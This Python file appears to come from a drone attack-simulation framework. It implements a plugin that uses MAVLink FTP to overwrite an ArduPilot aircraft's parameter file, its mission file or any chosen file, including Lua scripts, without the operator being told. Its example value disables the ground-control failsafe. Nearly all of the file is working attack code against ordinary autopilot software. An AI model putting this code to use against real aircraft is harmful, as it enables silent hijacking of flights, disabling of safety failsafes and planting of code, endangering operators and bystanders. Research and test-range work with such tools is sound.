"""Alteration of files: parameters, a mission or another file are written to the aircraft by MAVLink FTP."""

from __future__ import annotations

from typing import Annotated

from pydantic import Field

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.file_client import FileClient, FileRequest
from skyrange.attack.bases.mavlink.params import ParameterValues, Track
from skyrange.codec.ardupilot_files import missions, parameters
from skyrange.codec.mavlink.file_transfer import DATA_BYTES, Opcode, Transfer


@sky.attack(
    "mavlink.file_write",
    technique="T0843",
    places=("radio_m",),
    persists="flight",
    effect="the autopilot flies with other parameters or another mission, of which no message tells its operator",
    knowledge="system ids, from any frame, and paths, formats and names of parameters, which are public",
    budget="one frame for each 239 bytes of a file, and two more for each file",
    load="none, because an upload goes on by its answers; the sham sends a frame of the length of the first request "
    "ten times, which nobody answers",
    content="the same upload with the values that the parameters have, or with the items of its mission",
    placement="the same upload to another aircraft",
)
class FileAlteration(FileClient):
    """Writes files of the aircraft by MAVLink FTP: the files of its parameters and of its mission, or any other."""

    values: ParameterValues = sky.param(
        "New values by parameter, such as { FS_GCS_ENABLE = 0 }, written to @PARAM/param.pck.", default={}
    )
    track: Annotated[Track | tuple[()], Field()] = sky.param(
        "Waypoints of another mission, each [east_m, north_m, up_m] in metres from the origin, written to "
        "@MISSION/mission.dat. The last one is held.",
        default=(),
    )
    path: str = sky.param("Path of another file to write, such as '/APM/scripts/a.lua'.", default="", max_length=238)
    text: str = sky.param("Content of that file.", default="", max_length=65_536)
    uploads: list[tuple[str, bytes]]
    """Paths and contents; the first is being written."""

    def prepare(self, context: sky.AttackContext) -> None:
        self.uploads = []
        if self.values:
            self.uploads.append((parameters.PATH, parameters.pack_upload(self.values)))
        if self.track:
            self.uploads.append((f"{missions.DIRECTORY}mission.dat", self._pack_mission(context.origin)))
        if self.path:
            self.uploads.append((self.path, self.text.encode()))
        if not self.uploads:
            raise sky.InputError.one(context.id, "values", "{}", "values, track or path: something to write")

    def marks(self) -> dict[str, sky.Place]:
        return {"end of the false mission": self.track[-1]} if self.track else {}

    def first_request(self) -> FileRequest:
        return FileRequest(Opcode.CREATE_FILE, self.uploads[0][0].encode())

    def next_request(self, request: FileRequest, reply: Transfer | None) -> FileRequest | None:
        done = reply is not None and reply.opcode == Opcode.ACK
        if request.opcode in (Opcode.CREATE_FILE, Opcode.WRITE_FILE) and done:
            at = request.offset + len(request.data) if request.opcode == Opcode.WRITE_FILE else 0
            piece = self.uploads[0][1][at : at + DATA_BYTES]
            return FileRequest(Opcode.WRITE_FILE, piece, at) if piece else FileRequest(Opcode.TERMINATE_SESSION)
        self.uploads.pop(0)
        return self.first_request() if self.uploads else None

    def _pack_mission(self, origin: sky.Origin) -> bytes:
        places = [sky.geodetic(origin, place) for place in self.track]
        waypoint, hold = sky.mavlink.MAV_CMD_NAV_WAYPOINT, sky.mavlink.MAV_CMD_NAV_LOITER_UNLIM
        # item 0 is home to ArduPilot, which ignores what is uploaded for it
        mission = [sky.MissionItem(waypoint, place) for place in (places[0], *places)]
        mission.append(sky.MissionItem(hold, places[-1]))
        kind = missions.TYPES["mission.dat"]
        return missions.pack([item.message(0, 0, seq, kind) for seq, item in enumerate(mission)], kind)
